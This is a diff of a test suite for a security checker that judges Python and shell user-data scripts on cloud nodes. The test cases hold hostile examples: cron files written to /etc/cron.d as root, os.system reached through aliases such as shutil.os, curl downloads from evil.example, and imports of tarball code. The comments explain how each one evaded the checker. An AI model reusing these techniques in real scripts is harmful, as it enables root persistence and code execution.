@@ -78,7 +78,7 @@ const untar = (dir: string) => [
 
 const insecure: NodeCase[] = [
     // ===== writes through library methods =====
-    // MISS: (PY-WRITE-METHOD) insecure accepted, got []. boto3 docs "S3.Client.download_file(Bucket, Key, Filename)": "Filename (str) – The path to the file to download to": the object's bytes become /etc/cron.d/ops, a cron file root's cron runs (crontab(5)): a boot-time root server of /etc/kubernetes on 0.0.0.0:8001 (the kubelet's and node role's credentials to every pod). The pack: PYTHON_WRITE_CALLS (pythonCode.ts) holds module functions only, pythonWriteRefusal's method scan knows pathlib's names and tofile, and boto3.* is in PYTHON_NO_FILE_WRITE_CALLS, so a method of a client object writes nothing. Fix: a table of writing METHODS read on any receiver (boto3 download_file: Filename arg 2 on a client/S3Transfer, arg 1 on a Bucket, arg 0 on an Object; URLopener.retrieve arg 1; ...), or fail closed on any method call given a path-valued argument the pack has not reviewed.
+    // Was a MISS (fixed in round 78): (PY-WRITE-METHOD) insecure accepted, got []. boto3 docs "S3.Client.download_file(Bucket, Key, Filename)": "Filename (str) – The path to the file to download to": the object's bytes become /etc/cron.d/ops, a cron file root's cron runs (crontab(5)): a boot-time root server of /etc/kubernetes on 0.0.0.0:8001 (the kubelet's and node role's credentials to every pod). The pack: PYTHON_WRITE_CALLS (pythonCode.ts) holds module functions only, pythonWriteRefusal's method scan knows pathlib's names and tofile, and boto3.* is in PYTHON_NO_FILE_WRITE_CALLS, so a method of a client object writes nothing. Fix: a table of writing METHODS read on any receiver (boto3 download_file: Filename arg 2 on a client/S3Transfer, arg 1 on a Bucket, arg 0 on an Object; URLopener.retrieve arg 1; ...), or fail closed on any method call given a path-valued argument the pack has not reviewed.
     dev(
         "tune.py: boto3 client download_file(bucket, key, '/etc/cron.d/ops')",
         tune("dev-py78-boto3-client-download-nodes", [
@@ -87,9 +87,8 @@ const insecure: NodeCase[] = [
             's3.download_file("ops-artifacts", "cron/ops", "/etc/cron.d/ops")',
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: (PY-WRITE-METHOD) insecure accepted, got []. boto3 docs "S3.Bucket.download_file(Key, Filename)" ("Filename (str) – The path to the file to download to"): the same cron file as the client case. pythonWriteRefusal: a chained resource method is no PYTHON_WRITE_CALLS callee and no pathlib method. Fix: as the client case.
+    // Was a MISS (fixed in round 78): (PY-WRITE-METHOD) insecure accepted, got []. boto3 docs "S3.Bucket.download_file(Key, Filename)" ("Filename (str) – The path to the file to download to"): the same cron file as the client case. pythonWriteRefusal: a chained resource method is no PYTHON_WRITE_CALLS callee and no pathlib method. Fix: as the client case.
     dev(
         "tune.py: boto3.resource('s3').Bucket(b).download_file(key, '/etc/cron.d/ops')",
         tune("dev-py78-boto3-bucket-download-nodes", [
@@ -97,9 +96,8 @@ const insecure: NodeCase[] = [
             'boto3.resource("s3").Bucket("ops-artifacts").download_file("cron/ops", "/etc/cron.d/ops")',
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: (PY-WRITE-METHOD) insecure accepted, got []. boto3 docs "S3.Client.download_file" (the keyword Filename= is the target). Same place and fix as the client case (read the keyword too; a name bound to a literal through pythonPath).
+    // Was a MISS (fixed in round 78): (PY-WRITE-METHOD) insecure accepted, got []. boto3 docs "S3.Client.download_file" (the keyword Filename= is the target). Same place and fix as the client case (read the keyword too; a name bound to a literal through pythonPath).
     dev(
         "tune.py: boto3 client download_file(Bucket=, Key=, Filename=target) with target a module constant",
         tune("dev-py78-boto3-download-kw-nodes", [
@@ -108,7 +106,6 @@ const insecure: NodeCase[] = [
             'boto3.client("s3").download_file(Bucket="ops-artifacts", Key="cron/ops", Filename=TARGET)',
         ]),
         REFUSED,
-        true,
     ),
     // Held (control): Python docs "open" ('wb' truncates and writes) and boto3 "download_fileobj" ("A file-like object to download into"): the S3 object becomes a root cron file (crontab(5)); refused at the open.
     dev(
@@ -120,7 +117,7 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
-    // MISS: (PY-WRITE-NONLITERAL) insecure accepted, got []. NumPy docs "numpy.savetxt(fname, X, fmt=...)" ("fname: filename, file handle or pathlib.Path"): the cron line lands in /etc/cron.d/ops (crontab(5)): a root server of /etc/kubernetes at boot. The pack: the round-77 rule in pythonWriteRefusal ("a call of an imported module's function that is neither a PYTHON_WRITE_CALLS entry ... nor reviewed") judges only arguments whose pythonText is an absolute LITERAL; `p` (a name), os.path.join, Path(...) and f-strings are skipped. Fix: compute every argument with pythonPath (names, joins, Path, f-strings) and judge what it yields; an argument it cannot compute that may be a path (anything but a literal non-path, a number, a known data name) fails closed.
+    // Was a MISS (fixed in round 78): (PY-WRITE-NONLITERAL) insecure accepted, got []. NumPy docs "numpy.savetxt(fname, X, fmt=...)" ("fname: filename, file handle or pathlib.Path"): the cron line lands in /etc/cron.d/ops (crontab(5)): a root server of /etc/kubernetes at boot. The pack: the round-77 rule in pythonWriteRefusal ("a call of an imported module's function that is neither a PYTHON_WRITE_CALLS entry ... nor reviewed") judges only arguments whose pythonText is an absolute LITERAL; `p` (a name), os.path.join, Path(...) and f-strings are skipped. Fix: compute every argument with pythonPath (names, joins, Path, f-strings) and judge what it yields; an argument it cannot compute that may be a path (anything but a literal non-path, a number, a known data name) fails closed.
     dev(
         "tune.py: p = '/etc/cron.d/ops'; numpy.savetxt(p, [cron line], fmt='%s') (the path a name)",
         tune("dev-py78-numpy-savetxt-name-nodes", [
@@ -129,9 +126,8 @@ const insecure: NodeCase[] = [
             `numpy.savetxt(p, ["${CRON_LINE}"], fmt="%s")`,
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: (PY-WRITE-NONLITERAL) insecure accepted, got []. Python docs "os.path.join" (the joined path is /etc/cron.d/ops) and NumPy "numpy.savetxt": as the name case; same place (the literal-only test in pythonWriteRefusal's round-77 loop) and fix.
+    // Was a MISS (fixed in round 78): (PY-WRITE-NONLITERAL) insecure accepted, got []. Python docs "os.path.join" (the joined path is /etc/cron.d/ops) and NumPy "numpy.savetxt": as the name case; same place (the literal-only test in pythonWriteRefusal's round-77 loop) and fix.
     dev(
         "tune.py: numpy.savetxt(os.path.join('/etc/cron.d', 'ops'), ...)",
         tune("dev-py78-numpy-savetxt-join-nodes", [
@@ -139,9 +135,8 @@ const insecure: NodeCase[] = [
             `numpy.savetxt(os.path.join("/etc/cron.d", "ops"), ["${CRON_LINE}"], fmt="%s")`,
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: (PY-WRITE-NONLITERAL) insecure accepted, got []. NumPy "numpy.savetxt" (fname may be a pathlib.Path): as the name case; same place and fix.
+    // Was a MISS (fixed in round 78): (PY-WRITE-NONLITERAL) insecure accepted, got []. NumPy "numpy.savetxt" (fname may be a pathlib.Path): as the name case; same place and fix.
     dev(
         "tune.py: numpy.savetxt(pathlib.Path('/etc/cron.d/ops'), ...)",
         tune("dev-py78-numpy-savetxt-path-nodes", [
@@ -149,9 +144,8 @@ const insecure: NodeCase[] = [
             `numpy.savetxt(pathlib.Path("/etc/cron.d/ops"), ["${CRON_LINE}"], fmt="%s")`,
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: (PY-WRITE-NONLITERAL) insecure accepted, got []. Python reference "f-strings" (the replacement field is the name's value: /etc/cron.d/ops): as the name case; same place and fix (pythonText refuses f-strings, so the argument is skipped rather than failed closed).
+    // Was a MISS (fixed in round 78): (PY-WRITE-NONLITERAL) insecure accepted, got []. Python reference "f-strings" (the replacement field is the name's value: /etc/cron.d/ops): as the name case; same place and fix (pythonText refuses f-strings, so the argument is skipped rather than failed closed).
     dev(
         "tune.py: numpy.savetxt(f'/etc/cron.d/{name}', ...)",
         tune("dev-py78-numpy-savetxt-fstring-nodes", [
@@ -160,9 +154,8 @@ const insecure: NodeCase[] = [
             `numpy.savetxt(f"/etc/cron.d/{name}", ["${CRON_LINE}"], fmt="%s")`,
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: (PY-WRITE-NONLITERAL) insecure accepted, got []. Python docs "distutils.file_util" copy_file(src, dst): "Copy file src to dst ... (If the file exists, it will be ruthlessly clobbered.)": the cron line written to /var/cache/ops/c (accepted: program data) is copied into /etc/cron.d/ops. The pack: distutils is neither in PYTHON_WRITE_CALLS nor reviewed, and dst is a name, not a literal (the round-77 loop). Fix: as the numpy name case (and shutil-like copiers of distutils.file_util/dir_util in PYTHON_WRITE_CALLS by dst).
+    // Was a MISS (fixed in round 78): (PY-WRITE-NONLITERAL) insecure accepted, got []. Python docs "distutils.file_util" copy_file(src, dst): "Copy file src to dst ... (If the file exists, it will be ruthlessly clobbered.)": the cron line written to /var/cache/ops/c (accepted: program data) is copied into /etc/cron.d/ops. The pack: distutils is neither in PYTHON_WRITE_CALLS nor reviewed, and dst is a name, not a literal (the round-77 loop). Fix: as the numpy name case (and shutil-like copiers of distutils.file_util/dir_util in PYTHON_WRITE_CALLS by dst).
     dev(
         "tune.py: distutils.file_util.copy_file(src, dst) with dst a name for /etc/cron.d/ops",
         tune("dev-py78-distutils-copy-file-nodes", [
@@ -172,9 +165,8 @@ const insecure: NodeCase[] = [
             'distutils.file_util.copy_file("/var/cache/ops/c", dst)',
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: (PY-WRITE-METHOD) insecure accepted, got []. Python docs "urllib.request" legacy interface, URLopener.retrieve(url, filename=None, ...): "Retrieves the contents of url and places it in filename" (deprecated, present in 3.9): the fetched text becomes /etc/cron.d/ops (crontab(5)). The pack: only the module function urllib.request.urlretrieve is in PYTHON_WRITE_CALLS; `.retrieve(` on the URLopener() object is no callee it matches. Fix: as the boto3 client case (retrieve's arg 1 as a write on any receiver).
+    // Was a MISS (fixed in round 78): (PY-WRITE-METHOD) insecure accepted, got []. Python docs "urllib.request" legacy interface, URLopener.retrieve(url, filename=None, ...): "Retrieves the contents of url and places it in filename" (deprecated, present in 3.9): the fetched text becomes /etc/cron.d/ops (crontab(5)). The pack: only the module function urllib.request.urlretrieve is in PYTHON_WRITE_CALLS; `.retrieve(` on the URLopener() object is no callee it matches. Fix: as the boto3 client case (retrieve's arg 1 as a write on any receiver).
     dev(
         "tune.py: urllib.request.URLopener().retrieve(url, '/etc/cron.d/ops')",
         tune("dev-py78-urlopener-retrieve-nodes", [
@@ -182,7 +174,6 @@ const insecure: NodeCase[] = [
             'urllib.request.URLopener().retrieve("https://ops.example/cron", "/etc/cron.d/ops")',
         ]),
         REFUSED,
-        true,
     ),
     // Held (control): Python docs "shutil.copyfileobj(fsrc, fdst)" copies into the file open() made for writing: /etc/cron.d/ops (crontab(5)) from the network; refused at the open.
     dev(
@@ -230,7 +221,7 @@ const insecure: NodeCase[] = [
         REFUSED,
     ),
     // ===== commands through other names =====
-    // MISS: (PY-RUNNER-ALIAS) insecure accepted, got []. CPython Lib/shutil.py `import os` makes os an attribute of shutil (Python reference "The import statement": the name is bound in the module's namespace), so shutil.os.system is os.system (Python docs "os.system": "Execute the command (a string) in a subshell"): root writes the cron line into /etc/cron.d/ops. The pack: PYTHON_COMMAND_RUNNERS matches the resolved callee `^(?:os|posix)\.system`, and `shutil.os.system` resolves to itself, so no runner is seen and no command is judged. Fix: resolve a module attribute that is itself a standard module (shutil.os, tempfile._os, subprocess.os, pathlib.os, X.sys ...) to that module before matching, or treat any attribute path through an `os`/`_os`/`posix` component as os.
+    // Was a MISS (fixed in round 78): (PY-RUNNER-ALIAS) insecure accepted, got []. CPython Lib/shutil.py `import os` makes os an attribute of shutil (Python reference "The import statement": the name is bound in the module's namespace), so shutil.os.system is os.system (Python docs "os.system": "Execute the command (a string) in a subshell"): root writes the cron line into /etc/cron.d/ops. The pack: PYTHON_COMMAND_RUNNERS matches the resolved callee `^(?:os|posix)\.system`, and `shutil.os.system` resolves to itself, so no runner is seen and no command is judged. Fix: resolve a module attribute that is itself a standard module (shutil.os, tempfile._os, subprocess.os, pathlib.os, X.sys ...) to that module before matching, or treat any attribute path through an `os`/`_os`/`posix` component as os.
     dev(
         "tune.py: shutil.os.system('echo cron line > /etc/cron.d/ops') (os reached as shutil's attribute)",
         tune("dev-py78-shutil-os-system-nodes", [
@@ -238,7 +229,6 @@ const insecure: NodeCase[] = [
             `shutil.os.system("echo '${CRON_LINE}' > /etc/cron.d/ops")`,
         ]),
         REFUSED,
-        true,
     ),
     // Held: Python docs "getattr" (getattr(os, 'system') is os.system, "Execute the command ... in a subshell"): the cron line lands in /etc/cron.d; refused as commands the pack does not read.
     dev(
@@ -249,7 +239,7 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
-    // MISS: (PY-RUNNER-ALIAS) insecure accepted, got []. CPython Lib/tempfile.py `import os as _os`: tempfile._os.system is os.system. Same place (PYTHON_COMMAND_RUNNERS on the resolved name) and fix as the shutil.os case.
+    // Was a MISS (fixed in round 78): (PY-RUNNER-ALIAS) insecure accepted, got []. CPython Lib/tempfile.py `import os as _os`: tempfile._os.system is os.system. Same place (PYTHON_COMMAND_RUNNERS on the resolved name) and fix as the shutil.os case.
     dev(
         "tune.py: tempfile._os.system(...) (tempfile's private os)",
         tune("dev-py78-tempfile-os-system-nodes", [
@@ -257,7 +247,6 @@ const insecure: NodeCase[] = [
             `tempfile._os.system("echo '${CRON_LINE}' > /etc/cron.d/ops")`,
         ]),
         REFUSED,
-        true,
     ),
     // Held (control): Python docs "os.system" with the command in a name: root writes /etc/cron.d/ops (crontab(5)).
     dev(
@@ -270,7 +259,7 @@ const insecure: NodeCase[] = [
         REFUSED,
     ),
     // ===== code loading =====
-    // MISS: (CODE-LOAD) insecure accepted, got []. CPython Lib/pkgutil.py walk_packages: "Note that this function must import all *packages* (NOT all modules!) on the given path, in order to access the __path__ attribute": each package's __init__.py from the tarball runs as root (arbitrary code: the kubelet's credentials, the node role). The pack: PYTHON_DYNAMIC_NAMES lists pkgutil.resolve_name only; pkgutil is a standard module, so the program is read as importing nothing unread. Fix: every standard-library call that imports from a path or name argument is dynamic unless read: pkgutil.walk_packages/get_loader/find_loader/ImpImporter, unittest's loaders (discover, loadTestsFromName(s), main), zipimport, setuptools.sandbox, distutils.core.run_setup.
+    // Was a MISS (fixed in round 78): (CODE-LOAD) insecure accepted, got []. CPython Lib/pkgutil.py walk_packages: "Note that this function must import all *packages* (NOT all modules!) on the given path, in order to access the __path__ attribute": each package's __init__.py from the tarball runs as root (arbitrary code: the kubelet's credentials, the node role). The pack: PYTHON_DYNAMIC_NAMES lists pkgutil.resolve_name only; pkgutil is a standard module, so the program is read as importing nothing unread. Fix: every standard-library call that imports from a path or name argument is dynamic unless read: pkgutil.walk_packages/get_loader/find_loader/ImpImporter, unittest's loaders (discover, loadTestsFromName(s), main), zipimport, setuptools.sandbox, distutils.core.run_setup.
     dev(
         "tune.py: pkgutil.walk_packages(['/var/cache/ops/plugins']) (imports each package found); plugins from a tarball",
         tune(
@@ -279,9 +268,8 @@ const insecure: NodeCase[] = [
             untar("/var/cache/ops/plugins"),
         ),
         REFUSED,
-        true,
     ),
-    // MISS: (CODE-LOAD) insecure accepted, got []. Python docs "unittest" TestLoader.discover(start_dir, pattern='test*.py'): "Find all the test modules by recursing into subdirectories from the specified start directory" and import them: the tarball's test*.py runs as root. The pack: PYTHON_DYNAMIC_NAMES excludes unittest but unittest.mock. Fix: as the walk_packages case.
+    // Was a MISS (fixed in round 78): (CODE-LOAD) insecure accepted, got []. Python docs "unittest" TestLoader.discover(start_dir, pattern='test*.py'): "Find all the test modules by recursing into subdirectories from the specified start directory" and import them: the tarball's test*.py runs as root. The pack: PYTHON_DYNAMIC_NAMES excludes unittest but unittest.mock. Fix: as the walk_packages case.
     dev(
         "tune.py: unittest.TestLoader().discover('/var/cache/ops/checks') (imports test*.py); checks from a tarball",
         tune(
@@ -294,9 +282,8 @@ const insecure: NodeCase[] = [
             untar("/var/cache/ops/checks"),
         ),
         REFUSED,
-        true,
     ),
-    // MISS: (CODE-LOAD) insecure accepted, got []. Python docs "unittest" command-line interface (`python -m unittest discover -s DIR`: -s "Directory to start discovery"; modules matching test*.py are imported): the tarball's code runs as root. The pack reads `python -m unittest` as the standard library's own module (pythonProgram/pythonUnreadCode: a standard module is read code), its arguments unread. Fix: stdlib `-m` modules that import or run their operands (unittest, doctest, pdb, cProfile, profile, trace, timeit, runpy, pydoc, zipapp's archives) make the run unread unless the operands are files the pack read.
+    // Was a MISS (fixed in round 78): (CODE-LOAD) insecure accepted, got []. Python docs "unittest" command-line interface (`python -m unittest discover -s DIR`: -s "Directory to start discovery"; modules matching test*.py are imported): the tarball's code runs as root. The pack reads `python -m unittest` as the standard library's own module (pythonProgram/pythonUnreadCode: a standard module is read code), its arguments unread. Fix: stdlib `-m` modules that import or run their operands (unittest, doctest, pdb, cProfile, profile, trace, timeit, runpy, pydoc, zipapp's archives) make the run unread unless the operands are files the pack read.
     dev(
         "user data: python3 -m unittest discover -s /var/cache/ops/checks (from a tarball)",
         devNodeScript("dev-py78-unittest-cli-nodes", [
@@ -305,7 +292,6 @@ const insecure: NodeCase[] = [
             "python3 -m unittest discover -s /var/cache/ops/checks",
         ]),
         REFUSED,
-        true,
     ),
     // Held (by accident): setuptools.sandbox.run_setup runs the tarball's setup.py as root (arbitrary code). Refused only because the round-77 rule reads the absolute literal as a write of a file in a tree user data changed; see the relative twin below (a MISS).
     dev(
@@ -497,7 +483,7 @@ const insecure: NodeCase[] = [
         REFUSED,
     ),
     // ===== depth: neighbours of the misses above =====
-    // MISS: (CODE-LOAD) insecure accepted, got []. setuptools.sandbox.run_setup(setup_script, args) ("Run a distutils setup script, sandboxed in its directory", setuptools 59 on AL2023) executes setup.py, here the tarball's, as root. The literal-path twin is refused only because the round-77 rule takes its absolute argument for a write of a changed file; with a relative path after os.chdir nothing is judged (setuptools is a PYTHON_KNOWN_PACKAGES module, sandbox not dynamic). Fix: setuptools.sandbox (and distutils.core.run_setup) in PYTHON_DYNAMIC_NAMES, as the walk_packages case.
+    // Was a MISS (fixed in round 78): (CODE-LOAD) insecure accepted, got []. setuptools.sandbox.run_setup(setup_script, args) ("Run a distutils setup script, sandboxed in its directory", setuptools 59 on AL2023) executes setup.py, here the tarball's, as root. The literal-path twin is refused only because the round-77 rule takes its absolute argument for a write of a changed file; with a relative path after os.chdir nothing is judged (setuptools is a PYTHON_KNOWN_PACKAGES module, sandbox not dynamic). Fix: setuptools.sandbox (and distutils.core.run_setup) in PYTHON_DYNAMIC_NAMES, as the walk_packages case.
     dev(
         "tune.py: os.chdir(tarball dir); setuptools.sandbox.run_setup('setup.py', ['build']) (a relative setup.py)",
         tune(
@@ -510,9 +496,8 @@ const insecure: NodeCase[] = [
             untar("/var/cache/ops/src"),
         ),
         REFUSED,
-        true,
     ),
-    // MISS: (CODE-LOAD) insecure accepted, got []. Python docs "zipimport": zipimporter(archivepath) "Create a new zipimporter instance", load_module(fullname) "Load the module specified by fullname": the downloaded zip's module runs as root. The literal twin is refused only by the round-77 write rule ("writes /var/cache/ops/p.zip"); through a name it is accepted: zipimport is no PYTHON_DYNAMIC_NAMES module. Fix: zipimport in PYTHON_DYNAMIC_NAMES (read only when its archive is one user data wrote and the pack reads).
+    // Was a MISS (fixed in round 78): (CODE-LOAD) insecure accepted, got []. Python docs "zipimport": zipimporter(archivepath) "Create a new zipimporter instance", load_module(fullname) "Load the module specified by fullname": the downloaded zip's module runs as root. The literal twin is refused only by the round-77 write rule ("writes /var/cache/ops/p.zip"); through a name it is accepted: zipimport is no PYTHON_DYNAMIC_NAMES module. Fix: zipimport in PYTHON_DYNAMIC_NAMES (read only when its archive is one user data wrote and the pack reads).
     dev(
         "tune.py: z = '/var/cache/ops/p.zip'; zipimport.zipimporter(z).load_module('p') (a downloaded zip)",
         tune(
@@ -521,9 +506,8 @@ const insecure: NodeCase[] = [
             ["curl -fsSLo /var/cache/ops/p.zip https://evil.example/p.zip"],
         ),
         REFUSED,
-        true,
     ),
-    // MISS: (PY-RUNNER-ALIAS) insecure accepted, got []. Python reference "The import statement" (`from shutil import os as o` binds shutil's attribute os, the os module): o.system is os.system. Same place and fix as the shutil.os case (pythonResolve gives shutil.os.system).
+    // Was a MISS (fixed in round 78): (PY-RUNNER-ALIAS) insecure accepted, got []. Python reference "The import statement" (`from shutil import os as o` binds shutil's attribute os, the os module): o.system is os.system. Same place and fix as the shutil.os case (pythonResolve gives shutil.os.system).
     dev(
         "tune.py: from shutil import os as o; o.system('echo cron line > /etc/cron.d/ops')",
         tune("dev-py78-from-shutil-import-os-nodes", [
@@ -531,9 +515,8 @@ const insecure: NodeCase[] = [
             `o.system("echo '${CRON_LINE}' > /etc/cron.d/ops")`,
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: (PY-WRITE-NONLITERAL) insecure accepted, got []. prometheus_client's write_to_textfile(path, registry) writes path (the round-77 test case's own citation): through a module constant it is /etc/cron.d/ops. Same place (literal-only test in the round-77 loop) and fix as the numpy name case.
+    // Was a MISS (fixed in round 78): (PY-WRITE-NONLITERAL) insecure accepted, got []. prometheus_client's write_to_textfile(path, registry) writes path (the round-77 test case's own citation): through a module constant it is /etc/cron.d/ops. Same place (literal-only test in the round-77 loop) and fix as the numpy name case.
     dev(
         "tune.py: prometheus_client.write_to_textfile(OUT, registry) with OUT a module constant for /etc/cron.d/ops",
         tune("dev-py78-prom-textfile-name-nodes", [
@@ -542,7 +525,6 @@ const insecure: NodeCase[] = [
             "prometheus_client.write_to_textfile(OUT, prometheus_client.REGISTRY)",
         ]),
         REFUSED,
-        true,
     ),
     // Held: as the heredoc set -a case, the env file written by echo (its text read literally): PYTHONPATH puts the tarball's json.py before the standard library.
     dev(
@@ -589,6 +571,106 @@ const insecure: NodeCase[] = [
         "user data: ionice -c 3 stdbuf -oL python3 -c 'import numpy; p=...; numpy.savetxt(p, [cron line])'",
         devNodeScript("dev-py78-wrapped-python-c-savetxt-nodes", [
             `ionice -c 3 stdbuf -oL python3 -c 'import numpy; p = "/etc/cron.d/ops"; numpy.savetxt(p, ["${CRON_LINE}"], fmt="%s")'`,
+        ]),
+        REFUSED,
+    ),
+    // ===== round 78 fixes: neighbours (fix78) =====
+    // PY-WRITE-NONLITERAL: NumPy docs "numpy.savetxt(fname, ...)" given a function's parameter: the pack cannot follow what
+    // the caller passes (here /etc/cron.d/ops, crontab(5)), so an unreviewed library's path argument fails closed.
+    dev(
+        "tune.py: def save(p): numpy.savetxt(p, rows); save('/etc/cron.d/ops') (the path a parameter)",
+        tune("dev-py78-numpy-savetxt-param-fix78-nodes", [
+            "import numpy",
+            "def save(p):",
+            `    numpy.savetxt(p, ["${CRON_LINE}"], fmt="%s")`,
+            'save("/etc/cron.d/ops")',
+        ]),
+        REFUSED,
+    ),
+    // PY-WRITE-NONLITERAL: Python docs "printf-style String Formatting" (`DIR % "ops"` is /etc/cron.d/ops) and
+    // prometheus_client's write_to_textfile(path, registry): a root cron file (crontab(5)).
+    dev(
+        "tune.py: prometheus_client.write_to_textfile(PATTERN % 'ops', registry) (a formatted path)",
+        tune("dev-py78-prom-textfile-format-fix78-nodes", [
+            "import prometheus_client",
+            'PATTERN = "/etc/cron.d/%s"',
+            "registry = prometheus_client.CollectorRegistry()",
+            'prometheus_client.write_to_textfile(PATTERN % "ops", registry)',
+        ]),
+        REFUSED,
+    ),
+    // PY-WRITE-METHOD: boto3 docs "S3.Object.download_file(Filename, ...)" ("The path to the file to download to"): a
+    // systemd unit root loads (systemd.unit(5): /etc/systemd/system).
+    dev(
+        "tune.py: boto3.resource('s3').Object(b, k).download_file('/etc/systemd/system/ops.service')",
+        tune("dev-py78-boto3-object-download-fix78-nodes", [
+            "import boto3",
+            'boto3.resource("s3").Object("ops-artifacts", "ops.service").download_file("/etc/systemd/system/ops.service")',
+        ]),
+        REFUSED,
+    ),
+    // PY-WRITE-METHOD: Python docs "urllib.request" FancyURLopener (a URLopener) retrieve(url, filename): the name a
+    // module constant for /etc/cron.d/ops (crontab(5)).
+    dev(
+        "tune.py: urllib.request.FancyURLopener().retrieve(url, TARGET) with TARGET /etc/cron.d/ops",
+        tune("dev-py78-fancyurlopener-retrieve-fix78-nodes", [
+            "import urllib.request",
+            'TARGET = "/etc/cron.d/ops"',
+            "opener = urllib.request.FancyURLopener()",
+            'opener.retrieve("https://ops.example/cron", filename=TARGET)',
+        ]),
+        REFUSED,
+    ),
+    // PY-RUNNER-ALIAS: CPython Lib/posixpath.py `import os`: os.path.os is os, so os.path.os.system is os.system
+    // ("Execute the command (a string) in a subshell"): root writes the cron line into /etc/cron.d/ops.
+    dev(
+        "tune.py: os.path.os.system('echo cron line > /etc/cron.d/ops') (os reached through os.path)",
+        tune("dev-py78-ospath-os-system-fix78-nodes", [
+            "import os.path",
+            `os.path.os.system("echo '${CRON_LINE}' > /etc/cron.d/ops")`,
+        ]),
+        REFUSED,
+    ),
+    // PY-RUNNER-ALIAS: CPython Lib/random.py `import os as _os`: random._os.popen is os.popen ("Open a pipe to or from
+    // command cmd", a shell line).
+    dev(
+        "tune.py: random._os.popen('echo cron line > /etc/cron.d/ops') (random's private os)",
+        tune("dev-py78-random-os-popen-fix78-nodes", [
+            "import random",
+            `random._os.popen("echo '${CRON_LINE}' > /etc/cron.d/ops").read()`,
+        ]),
+        REFUSED,
+    ),
+    // CODE-LOAD: Python docs "doctest" command line (`python -m doctest FILE`: the file's examples are run as Python
+    // code): a downloaded file's examples run as root.
+    dev(
+        "user data: python3 -m doctest /var/cache/ops/checks.txt (downloaded)",
+        devNodeScript("dev-py78-doctest-cli-fix78-nodes", [
+            "mkdir -p /var/cache/ops",
+            "curl -fsSLo /var/cache/ops/checks.txt https://evil.example/checks.txt",
+            "python3 -m doctest /var/cache/ops/checks.txt",
+        ]),
+        REFUSED,
+    ),
+    // CODE-LOAD: Python docs "unittest" main(module='__main__', ..., argv=None, ...) parses argv as the command line:
+    // `discover -s DIR` imports the tarball's test*.py as root.
+    dev(
+        "tune.py: unittest.main(argv=['x', 'discover', '-s', tarball dir])",
+        tune(
+            "dev-py78-unittest-main-argv-fix78-nodes",
+            ["import unittest", 'unittest.main(argv=["x", "discover", "-s", "/var/cache/ops/checks"])'],
+            untar("/var/cache/ops/checks"),
+        ),
+        REFUSED,
+    ),
+    // UNREVIEWED-READ twin: NumPy docs "numpy.load" mmap_mode 'r+' ("Open existing file for reading and writing") maps a
+    // sysctl.d file (sysctl.d(5), applied at boot) writable: still judged as a write.
+    dev(
+        "tune.py: numpy.load('/etc/sysctl.d/99-ops.conf', mmap_mode='r+') (a writable map)",
+        tune("dev-py78-numpy-load-rplus-fix78-nodes", [
+            "import numpy",
+            'a = numpy.load("/etc/sysctl.d/99-ops.conf", mmap_mode="r+")',
+            "a[0] = 1",
         ]),
         REFUSED,
     ),
@@ -813,7 +895,7 @@ const secure: NodeCase[] = [
             'boto3.client("s3").upload_file("/var/log/ops/t.log", "ops-logs", "node/t.log")',
         ]),
     ),
-    // MISS: (UNREVIEWED-READ, secure refused) NumPy docs "numpy.loadtxt(fname, ...)": "Load data from a text file" (a read; the file is user data's own /etc/ops/thresholds.csv). The pack refuses "numpy.loadtxt(...): it writes /etc/ops/thresholds.csv": the round-77 rule judges any absolute literal given to an unreviewed module function as a write. Fix: review numpy's readers (loadtxt, genfromtxt, fromfile, fromregex, load without allow_pickle, memmap mode 'r') into PYTHON_NO_FILE_WRITE_CALLS, as os.path and glob are.
+    // Was a MISS (fixed in round 78): (UNREVIEWED-READ, secure refused) NumPy docs "numpy.loadtxt(fname, ...)": "Load data from a text file" (a read; the file is user data's own /etc/ops/thresholds.csv). The pack refuses "numpy.loadtxt(...): it writes /etc/ops/thresholds.csv": the round-77 rule judges any absolute literal given to an unreviewed module function as a write. Fix: review numpy's readers (loadtxt, genfromtxt, fromfile, fromregex, load without allow_pickle, memmap mode 'r') into PYTHON_NO_FILE_WRITE_CALLS, as os.path and glob are.
     dev(
         "tune.py: numpy.loadtxt('/etc/ops/thresholds.csv') (reads a file user data wrote)",
         tune(
@@ -822,7 +904,6 @@ const secure: NodeCase[] = [
             heredocFile("/etc/ops/thresholds.csv", ["1,2,3"]),
         ),
         undefined,
-        true,
     ),
     // Secure: timeout(1)/nice(1) run tune.py unchanged; it appends to its own log.
     dev(
@@ -832,6 +913,63 @@ const secure: NodeCase[] = [
             ...heredocFile("/opt/ops/tune.py", ['open("/var/log/ops/t.log", "a").write("ok\\n")']),
             "timeout 300 nice -n 10 python3 /opt/ops/tune.py",
         ]),
+    ),
+    // ===== round 78 fixes: secure neighbours (fix78) =====
+    // Secure: NumPy "savetxt" to os.path.join('/var/log/ops', ...) (FHS /var/log) of an array numpy made: computed, a
+    // log of its own.
+    dev(
+        "tune.py: numpy.savetxt(os.path.join('/var/log/ops', 'stats.csv'), numpy.arange(3))",
+        tune("dev-py78-numpy-savetxt-join-log-fix78-nodes", [
+            "import numpy, os",
+            "data = numpy.arange(3)",
+            'numpy.savetxt(os.path.join("/var/log/ops", "stats.csv"), data)',
+        ]),
+    ),
+    // Secure: prometheus_client write_to_textfile into /var/lib/ops (its state, FHS /var/lib) through an f-string of a
+    // constant, the registry the library's own object.
+    dev(
+        "tune.py: prometheus_client.write_to_textfile(f'/var/lib/ops/{NAME}.prom', prometheus_client.REGISTRY)",
+        tune("dev-py78-prom-textfile-state-fix78-nodes", [
+            "import prometheus_client",
+            'NAME = "tune"',
+            'prometheus_client.write_to_textfile(f"/var/lib/ops/{NAME}.prom", prometheus_client.REGISTRY)',
+        ]),
+    ),
+    // Secure: boto3 "S3.Bucket.download_file(Key, Filename)" into /var/cache/ops (FHS "Application cache data").
+    dev(
+        "tune.py: boto3 Bucket(b).download_file(key, os.path.join('/var/cache/ops', 'model.bin'))",
+        tune("dev-py78-boto3-bucket-cache-fix78-nodes", [
+            "import boto3, os",
+            'bucket = boto3.resource("s3").Bucket("ops-artifacts")',
